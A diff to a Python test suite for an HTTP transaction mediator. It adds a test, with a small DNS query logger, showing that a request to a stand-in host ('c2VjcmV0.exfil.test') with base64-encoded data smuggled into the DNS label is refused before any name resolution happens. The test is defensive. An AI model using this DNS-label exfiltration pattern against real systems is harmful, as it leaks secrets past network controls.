@@ -29,11 +29,12 @@ TX = {"effect": "external_http_read",
       "max_response_bytes": 1048576}
 
 
-def setup(env, tx=None):
+def setup(env, tx=None, before_mediator=None):
     # Seed 001's envelope: the mediated client may reach the mediator and
     # nothing else; the transaction's scope is the upstream's authority.
     t = tm.setup(env, proxy_extra={"transaction": dict(TX, **(tx or {}))},
-                 grants=[{"destination": "198.51.100.1", "protocol": "tcp", "ports": [3128]}])
+                 grants=[{"destination": "198.51.100.1", "protocol": "tcp", "ports": [3128]}],
+                 before_mediator=before_mediator)
     t.sup = os.path.join(env.state, "network-operations", OP, "supervisor.sock")
     return t
 
@@ -130,13 +131,18 @@ def transaction_lifecycle(env):
                  "http_transaction_ended", "http_transaction_refused",
                  "http_transaction_revoked"):
         check(want in types, "%s missing from http-transactions.jsonl: %r" % (want, types))
-    allowed = [e for e in ev if e["type"] == "http_transaction_request" and e["result"] == "ok"]
+    allowed = [e for e in ev if e["type"] == "http_transaction_request" and e["result"] == "ok"
+               and e["stage"] == "connect"]
+    # Every allowed connect was preceded by its pre-resolution check.
+    pre = [e for e in ev if e["type"] == "http_transaction_request" and e["result"] == "ok"
+           and e["stage"] == "resolve"]
+    check(len(pre) == 1 and pre[0]["path"] == "/v1/data/a", "resolve-stage evidence: %r" % pre)
     check(len(allowed) == 1 and allowed[0]["transaction_id"] == "http_tx_1" and
           allowed[0]["path"] == "/v1/data/a", "allowed request evidence: %r" % allowed)
     scoped = [e for e in ev if e["type"] == "http_transaction_request" and
               e["result"] == "out_of_scope"]
     check(len(scoped) >= 4, "out_of_scope evidence: %r" % scoped)
-    med = [e for e in tm.evidence(env) if e["decision"] == "allow"]
+    med = [e for e in tm.evidence(env) if e["decision"] == "allow" and e["stage"] == "connect"]
     check(len(med) == 1 and med[0]["transaction_id"] == "http_tx_1", "http-mediator: %r" % med)
     eff = [e for e in jsonl(env, "effects.jsonl") if e.get("kind") == "http_transaction_effect"]
     check(len(eff) == 1 and eff[0]["transaction_id"] == "http_tx_1" and eff[0]["delivered"] and
@@ -400,10 +406,64 @@ def transaction_evidence_loss_marked(env):
     check("http_transaction_evidence_incomplete" in env.daemon_log(), "not logged")
 
 
+DNSLOG = r"""
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("192.0.2.10", 53))
+print("ready", flush=True)
+while True:
+    data, peer = s.recvfrom(4096)
+    with open(sys.argv[1], "a") as f:
+        f.write(data.hex() + "\n")
+"""
+
+
+def transaction_scope_before_dns(env):
+    """The scope is checked before the mediator resolves a name: a name
+    outside every scope (here: data smuggled into a label) is never sent to
+    the resolver. A listener on the configured nameserver logs every query;
+    an in-scope unknown name proves it is asked."""
+    dnslog = {}
+
+    def dns(t):
+        t.dnslog = os.path.join(t.dir, "dns.log")
+        open(t.dnslog, "w").close()
+        t.resolv = os.path.join(t.dir, "resolv.conf")
+        with open(t.resolv, "w") as f:
+            f.write("nameserver 192.0.2.10\noptions timeout:1 attempts:1\n")
+        os.chmod(t.resolv, 0o644)
+        p = subprocess.Popen(env.ns_prefix(t.ext) + ["/usr/bin/python3", "-c", DNSLOG, t.dnslog],
+                             stdout=subprocess.PIPE, text=True)
+        env.children.append(p)
+        check(p.stdout.readline().strip() == "ready", "dns logger did not start")
+        dnslog["path"] = t.dnslog
+    t = setup(env, {"scopes": TX["scopes"] + [{"scheme": "http", "authority": "dns.test:8080",
+                                               "path_prefix": "/v1"}]}, before_mediator=dns)
+    begin_active(env, "http_tx_d")
+    r = tm.get(env, t, "http://c2VjcmV0.exfil.test:8080/v1/data")
+    check(r["status"] == 403 and refusal(r) == "out_of_scope", "out-of-scope name: %r" % r)
+    r = tm.get(env, t, "http://up.test:8080/v2/other")
+    check(r["status"] == 403 and refusal(r) == "out_of_scope", "out-of-scope path: %r" % r)
+    time.sleep(1)
+    check(open(t.dnslog).read() == "", "the resolver was asked: %r" % open(t.dnslog).read())
+    # In scope and not in the hosts file: asked (the listener works), no answer.
+    r = tm.get(env, t, "http://dns.test:8080/v1/x")
+    check(r["status"] in (502, 504), "in-scope unknown name: %r" % r)
+    env.wait_for("the in-scope query", lambda: open(t.dnslog).read() != "", timeout=10)
+    # (evdns mixes the case of the name: DNS 0x20)
+    check(bytes.fromhex(open(t.dnslog).read().split()[0]).lower().find(b"\x03dns\x04test") > 0,
+          "query: %r" % open(t.dnslog).read())
+    ev = [e for e in jsonl(env, "http-transactions.jsonl") if e["type"] == "http_transaction_request"]
+    pre = [e for e in ev if e["stage"] == "resolve" and e["host"] == "c2vjcmv0.exfil.test"]
+    check(len(pre) == 1 and pre[0]["result"] == "out_of_scope", "evidence: %r" % ev)
+    check(requests_seen(t) == [], "upstream: %r" % requests_seen(t))
+
+
 if __name__ == "__main__":
     main({f.__name__: f for f in (transaction_lifecycle, transaction_control_is_root_only,
                                   transaction_topology, transaction_budgets,
                                   transaction_ttl_expiry, transaction_revoke_cuts_inflight,
                                   transaction_crash_keeps_reservation,
                                   transaction_state_tampered_denies,
-                                  transaction_evidence_loss_marked)})
+                                  transaction_evidence_loss_marked,
+                                  transaction_scope_before_dns)})
